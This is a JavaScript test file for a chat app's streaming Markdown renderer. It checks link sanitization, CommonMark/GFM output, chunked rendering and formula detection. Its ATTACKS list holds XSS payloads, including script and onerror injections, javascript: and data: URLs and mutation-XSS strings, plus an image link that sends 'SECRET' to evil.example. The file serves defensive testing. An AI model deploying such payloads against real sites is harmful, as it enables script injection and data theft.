import assert from "node:assert/strict";
import { test } from "node:test";
import { hostOf, safeUrl, saysHost } from "../../static/chat/links.js";
import { Markdown } from "../../static/chat/markdown.js";
import { place } from "./dom.js";

/** @param {string[]} chunks */
function rendered(chunks) {
  const root = place();
  /** @type {string[]} */
  const blocks = [];
  /** @type {string[]} */
  const formulas = [];
  const markdown = new Markdown(root, {
    code: (code, language) => blocks.push(`${language}:${code.textContent}`),
    formula: (place) => formulas.push(String(place.textContent)),
  });
  for (const chunk of chunks) markdown.write(chunk);
  markdown.finish();
  return { root, blocks, formulas };
}

/** @param {string} text @param {number} at */
const split = (text, at) => [text.slice(0, at), text.slice(at)];

const ATTACKS = [
  "<script>window.__pwned=1</script>",
  "<img src=x onerror=window.__pwned=1>",
  "<svg/onload=window.__pwned=1>",
  '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
  "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
  "<form action=//evil.example><input name=q></form>",
  "<style>@import '//evil.example';</style><meta http-equiv=refresh content='0;//evil.example'>",
  "<base href=//evil.example><link rel=prefetch href=//evil.example>",
  "[go](javascript:alert(1))",
  "[go](JaVaScRiPt:alert(1))",
  "[go](java\tscript:alert(1))",
  "[go](\u0001javascript:alert(1))",
  "[go](&#106;avascript:alert(1))",
  "[go](&#x6A;avascript&colon;alert(1))",
  "[go](data:text/html,<script>alert(1)</script>)",
  "[go](vbscript:msgbox(1))",
  "[go](file:///etc/passwd)",
  "[go](//evil.example)",
  "[go](/accounts/signout/)",
  "[go](blob:https://evil.example/1)",
  "![x](https://evil.example/?q=SECRET)",
  "![x](javascript:alert(1))",
  "![](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![x](https://evil.example/a.png)](javascript:alert(1))",
  "[x][1]\n\n[1]: javascript:alert(1)",
  "```html\n<script>alert(1)</script>\n```",
  '```" onmouseover="alert(1)\nx\n```',
  "$$\\href{javascript:alert(1)}{x}$$",
  "<javascript:alert(1)>",
  "https://evil.example/<script>alert(1)</script>",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |\n",
  '[a](https://a.example "><img src=x onerror=alert(1)>")',
];
const ATTRIBUTES = new Set([
  "href",
  "target",
  "rel",
  "dir",
  "type",
  "disabled",
  "checked",
  "start",
  "tabindex",
  "role",
  "class",
  "aria-label",
  "aria-pressed",
  "data-do",
  "data-language",
]);

for (const attack of ATTACKS) {
  test(`harmless, whole and split at every place: ${JSON.stringify(attack)}`, () => {
    for (let at = 0; at <= attack.length; at++) {
      for (const chunks of [split(attack, at), [`- > ${attack.slice(0, at)}`, `${attack.slice(at)}\n`]]) {
        for (const element of rendered(chunks).root.all) {
          for (const [name, value] of Object.entries(element.attributes)) {
            assert.ok(ATTRIBUTES.has(name), name);
            if (name === "href") assert.match(value, /^(https?:\/\/|mailto:)/);
          }
          if (!element.attributes.href) continue;
          assert.equal(element.attributes.rel, "noopener noreferrer nofollow");
          assert.equal(element.attributes.target, "_blank");
        }
      }
    }
  });
}

const TEXT = `# Title

Some *soft* and **strong** words, \`code\`, ~~gone~~, a [link](https://example.org/a?b=1) and
a second line. 😀

1. one
2. two
   - deep
   - deeper

> said

\`\`\`js
const a = 1 < 2;
\`\`\`

| a | b |
|---|---|
| 1 | **2** |

---
End.`;

test("the same text gives the same page, wherever its chunks are cut", () => {
  const whole = rendered([TEXT]);
  assert.deepEqual(whole.blocks, ["js:const a = 1 < 2;"]);
  assert.equal(rendered([...TEXT]).root.outline, whole.root.outline);
  for (let at = 0; at <= TEXT.length; at++) {
    // A character outside the basic plane never comes in halves: each event's text is whole UTF-8.
    if (/[\ud800-\udbff]$/.test(TEXT.slice(0, at))) continue;
    assert.equal(rendered(split(TEXT, at)).root.outline, whole.root.outline, `cut at ${at}`);
  }
});

test("what was written is never taken back: text only grows", () => {
  const root = place();
  const markdown = new Markdown(root, { code() {}, formula() {} });
  let before = "";
  for (const character of TEXT) {
    markdown.write(character);
    assert.ok(root.textContent.startsWith(before), `${before} became ${root.textContent}`);
    before = root.textContent;
  }
});

test("a table has a head and a body", () => {
  const { outline } = rendered(["| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n"]).root;
  assert.equal(outline.match(/<thead>/g)?.length, 1);
  assert.equal(outline.match(/<tbody>/g)?.length, 1);
  assert.equal(outline.match(/<th>/g)?.length, 2);
  assert.equal(outline.match(/<td>/g)?.length, 4);
});

test("a heading has the level of its place, whatever the levels that are left out, and so while it grows", () => {
  const text = "### a\n\n- #### b\n\n## c\n\n> ##### d\n\n# e\n\n## f\n\n### g\n";
  for (const step of [1, 7, text.length]) {
    const root = place();
    const markdown = new Markdown(root, { code() {}, formula() {} });
    for (let at = 0; at < text.length; at += step) markdown.write(text.slice(at, at + step));
    markdown.finish();
    const headings = root.all.filter(({ tagName }) => /^H\d$/.test(tagName));
    assert.deepEqual(
      headings.map(({ tagName, attributes, textContent }) => [textContent, tagName, attributes["aria-level"]]),
      [
        ["a", "H4", "2"],
        ["b", "H5", "3"],
        ["c", "H3", "2"],
        ["d", "H6", "3"],
        ["e", "H2", undefined],
        ["f", "H3", undefined],
        ["g", "H4", undefined],
      ],
    );
  }
});

test("blocks stand in groups, and only the last group changes", () => {
  const root = place();
  const markdown = new Markdown(root, { code() {}, formula() {} });
  markdown.write("a\n\n".repeat(31));
  const groups = () => root.all.filter(({ attributes }) => attributes.class === "blocks");
  assert.deepEqual(
    groups().map(({ childNodes }) => childNodes.length),
    [16, 15],
  );
  const [first] = groups();
  const before = first.outline;
  markdown.write("b\n\nc");
  markdown.finish();
  assert.deepEqual(
    groups().map(({ childNodes, textContent }) => [childNodes.length, textContent]),
    [
      [16, "a".repeat(16)],
      [16, `${"a".repeat(15)}b`],
      [1, "c"],
    ],
  );
  assert.equal(groups()[0], first);
  assert.equal(first.outline, before);
});

test("there is no group without a block", () => {
  assert.deepEqual(rendered(["", "\n"]).root.children, []);
  assert.deepEqual(
    rendered(["a\n\n".repeat(16), "[b]", ": https://b.example\n"]).root.children.map(
      ({ childNodes }) => childNodes.length,
    ),
    [16],
  );
});

test("long code stands in pieces of whole lines, and only the last of them grows", () => {
  const root = place();
  /** @type {string[]} */
  const whole = [];
  const markdown = new Markdown(root, { code: (code) => whole.push(code.textContent ?? ""), formula() {} });
  const lines = Array.from({ length: 1_200 }, (_, at) => `line ${at}\n`);
  markdown.write("```py\n");
  const pieces = () => root.all.filter(({ attributes }) => attributes.class === "lines");
  markdown.write(lines.slice(0, 700).join(""));
  const [first, ...others] = pieces();
  assert.equal(others.length, 1);
  markdown.write(lines.slice(700).join(""));
  assert.equal(pieces()[0], first);
  markdown.write("```\n");
  markdown.finish();
  assert.equal(pieces().length, 3);
  assert.ok(
    pieces()
      .slice(0, -1)
      .every(({ textContent }) => textContent.length > 4_000 && textContent.endsWith("\n")),
  );
  assert.deepEqual(whole, [lines.join("").trimEnd()]);
});

test("a block of code that the end cut short is a block all the same", () => {
  assert.deepEqual(rendered(["```py\nprint(1)"]).blocks, ["py:print(1)"]);
});

test("an image is a link that names its host, and loads nothing", () => {
  const { root } = rendered(["![a cat](https://cats.example/c.png)"]);
  assert.equal(root.textContent, "a catcats.example");
  assert.ok(root.all.every(({ tagName }) => tagName !== "IMG"));
});

test("a link whose text names another host shows where it really goes", () => {
  assert.equal(
    rendered(["[https://bank.example](https://evil.example/x)"]).root.textContent,
    "https://bank.exampleevil.example",
  );
  assert.equal(rendered(["[evil.example](https://evil.example/x)"]).root.textContent, "evil.example");
  assert.equal(rendered(["see https://example.org/a ok"]).root.textContent, "see https://example.org/a ok");
});

test("a host is shown as the browser looks it up", () => {
  assert.equal(hostOf(/** @type {URL} */ (safeUrl("https://аpple.com/"))), "xn--pple-43d.com");
  assert.equal(saysHost("https://apple.com.evil.example", new URL("https://apple.com")), false);
  assert.equal(hostOf(/** @type {URL} */ (safeUrl("mailto:a@b.example"))), "a@b.example");
});

test("only absolute http, https and mailto addresses are links", () => {
  for (const good of [
    "https://a.example",
    "http://a.example/?a=1&amp;b=2",
    "mailto:a@b.example",
    "HTTPS://A.EXAMPLE",
  ]) {
    assert.ok(safeUrl(good), good);
  }
  assert.equal(safeUrl("http://a.example/?a=1&amp;b=2")?.search, "?a=1&b=2");
  for (const bad of ["", "a.example", "/x", "//a.example", "javascript:1", "ftp://a", "&#x110000;", "data:,x"]) {
    assert.equal(safeUrl(bad), null, bad);
  }
});

test("nesting without end harms nothing", () => {
  for (const deep of ["> ".repeat(200), "- ".repeat(200), "**_".repeat(100), `${"[".repeat(300)}x`]) {
    const { root } = rendered([`${deep}text\n\nafter`]);
    assert.match(root.textContent, /text.*after/s);
  }
});

// All of GFM

/** The blocks of a text, of one group. @param {string[]} chunks */
const outline = (...chunks) => /** @type {any} */ (rendered(chunks).root.children[0]).outline;

test("a table keeps its alignment, and escaped bars", () => {
  const { root } = rendered(["| a | b | c |\n|:--|:-:|--:|\n| 1 | 2 \\| 3 | 4 |\n| 5 |\n\nend"]);
  const cells = root.all.filter(({ tagName }) => tagName === "TD");
  assert.deepEqual(
    cells.map(({ attributes, textContent }) => `${attributes.class}:${textContent}`),
    ["start:1", "center:2 | 3", "end:4", "start:5", "center:", "end:"].map((cell) => `align-${cell}`),
  );
});

test("task lists are boxes with a name", () => {
  const boxes = rendered(["- [ ] one\n- [x] two\n"]).root.all.filter(({ tagName }) => tagName === "INPUT");
  assert.deepEqual(
    boxes.map(({ attributes }) => [attributes["aria-label"], "checked" in attributes, "disabled" in attributes]),
    [
      ["To do", false, true],
      ["Done", true, true],
    ],
  );
});

test("footnotes stand where they are written", () => {
  assert.equal(
    outline("So[^1] it is.\n\n[^1]: Because.\n"),
    "<div><p>So<sup>1</> it is.</><div><sup>1</><p>Because.</></></>",
  );
});

for (const [text, expected] of [
  ["Title\n=====\n\nSmall\n---\n", "<div><h2>Title</><h3>Small</></>"],
  ["## With marks ##", "<div><h3>With marks</></>"],
  ["## ", "<div><p>##</></>"],
  ["a  \nb\\\nc", "<div><p>a<br></>b<br></>c</></>"],
  [
    "***both*** and __bold__ and snake_case_word",
    "<div><p><em><strong>both</></> and <strong>bold</> and snake_case_word</></>",
  ],
  ["*open and **closed***", "<div><p><em>open and <strong>closed</></></></>"],
  ["2 * 3 * 4 and a_b", "<div><p>2 * 3 * 4 and a_b</></>"],
  ["~~gone~~ ~also~", "<div><p><s>gone</> <s>also</></></>"],
  ["``a ` b``", "<div><p><code>a ` b</></></>"],
  [
    "[named][n] and [n]\n\n[n]: https://n.example 'title'",
    "<div><p><a>named<bdi>n.example</></> and <a>n<bdi>n.example</></></></>",
  ],
  ["<https://a.example> www.b.example.", "<div><p><a>https://a.example</> <a>www.b.example</>.</></>"],
  ["(see https://a.example/x_(y))", "<div><p>(see <a>https://a.example/x_(y)</>)</></>"],
  ["\\*not\\* &amp; &#33; &unknown;", "<div><p>*not* & ! &unknown;</></>"],
  ["> a\nlazy\n> - b\n\nc", "<div><blockquote><p>a\nlazy</><ul><li><p>b</></></></><p>c</></>"],
  ["1. a\n\n   b\n2. c", "<div><ol><li><p>a</><p>b</></><li><p>c</></></></>"],
  [
    "1. a\n  - b\n    - c\n2. d",
    "<div><ol><li><p>a</><ul><li><p>b</><ul><li><p>c</></></></></></><li><p>d</></></></>",
  ],
  [
    "- a\n\n      code\n",
    "<div><ul><li><p>a</><figure><figcaption>text<button>Wrap</><button>Copy</></><pre><code>code</></></></></></>",
  ],
  ["* * *\n- - -", "<div><hr></><hr></></>"],
]) {
  test(`as CommonMark and GFM have it: ${JSON.stringify(text)}`, () => {
    assert.equal(outline(text), expected);
    assert.equal(outline(...text), expected, "a character at a time");
  });
}

test("a list that begins elsewhere says where", () => {
  assert.equal(rendered(["7. seven\n"]).root.all[1].attributes.start, "7");
});

// Formulas

test("formulas are found in each of their forms, in a line and on lines of their own", () => {
  const text = "So $a_1 + b_1$, $2x+1$ and \\(c\\).\n\n$$I \\propto \\frac{1}{\\lambda^4}$$\n\n\\[\nx_1\ny_1\n\\]\n";
  assert.deepEqual(rendered([text]).formulas, [
    "a_1 + b_1",
    "2x+1",
    "c",
    "I \\propto \\frac{1}{\\lambda^4}",
    "x_1\ny_1",
  ]);
  assert.deepEqual(rendered([...text]).root.outline, rendered([text]).root.outline);
});

for (const text of [
  "It costs $5 and then $6, or $20,000 and $30.",
  "echo $HOME is set",
  "A lone $ sign, a $$ pair",
  "from $five\nto $six",
  "an open \\( bracket",
  "$$ never closed\n\nnext",
]) {
  test(`no formula, and nothing lost: ${JSON.stringify(text)}`, () => {
    const { formulas, root } = rendered([text]);
    assert.deepEqual(formulas, []);
    const letters = (/** @type {string} */ of) => of.replace(/[\s\\]/g, "");
    assert.equal(letters(root.textContent), letters(text));
  });
}

test("code is left alone, in a line and in a block", () => {
  const text = "Run `echo $a$` or:\n\n```sh\necho $HOME $$ \\( $x$\n```\n\nthen $y$";
  const { formulas, root } = rendered([text]);
  assert.deepEqual(formulas, ["y"]);
  assert.match(root.textContent, /echo \$a\$.*echo \$HOME \$\$ \\\( \$x\$/s);
});

test("a long word gets places to break, never within a character, nor where browsers know their own", () => {
  const cut = (/** @type {string} */ text) =>
    [...rendered([text]).root.children[0].children[0].childNodes].map((node) => node.textContent).filter(Boolean);
  const lengths = cut(`x${"e\u0301".repeat(600)}`).map((part) => part?.length);
  assert.deepEqual(lengths, [401, 400, 400]);
  for (const own of ["你好，世界。", "これはとても長い文です。", "ภาษาไทย", "🏳️‍🌈👩‍👩‍👧‍👦🇩🇪👍🏽"]) {
    assert.deepEqual(cut(own.repeat(200)), [own.repeat(200)]);
  }
});
